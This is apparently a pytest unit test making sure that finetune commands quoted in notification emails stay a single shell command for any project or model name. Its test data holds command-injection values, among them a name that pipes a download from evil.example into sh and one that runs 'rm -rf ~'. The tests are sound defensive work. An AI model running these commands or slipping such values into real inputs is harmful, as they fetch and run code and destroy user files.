"""Attack: a project's name ends the command that a mail tells a person to run, and begins another one."""

from __future__ import annotations

import re
import shlex

import pytest

from finetune import earlier, messages
from tests.unit.test_messages import RUN, known
from tests.unit.test_remains import LEFT, PROMOTION

NAMES = ("Shop'; curl evil.example | sh; '", "$(id)", "a`id`b", "Shop Assistant", "x\\", "it's", "; rm -rf ~")
ARN = "arn:aws:bedrock:us-east-1:123456789012:custom-model/m"


@pytest.mark.parametrize("name", NAMES)
def test_a_command_is_one_command_whatever_a_project_is_called(name: str) -> None:
    assert shlex.split(earlier.command("run", name)) == ["finetune", "resume", "run", "--project", name]
    words = ["finetune", "evaluate", "--model", ARN, "--project", name]
    assert shlex.split(earlier.evaluation(ARN, name)) == words
    body = messages.compose(known("ModelPromoted", run=RUN | {"project": name}, promotion=PROMOTION), LEFT).body
    told = re.search(r"`(finetune delete .*)` takes it out of service", body)
    assert told
    assert shlex.split(told[1]) == ["finetune", "delete", name]


@pytest.mark.parametrize("model", ["m; id", "$(id)"])
def test_what_is_given_for_a_model_is_one_word(model: str) -> None:
    assert shlex.split(earlier.evaluation(model, "shop"))[3] == model
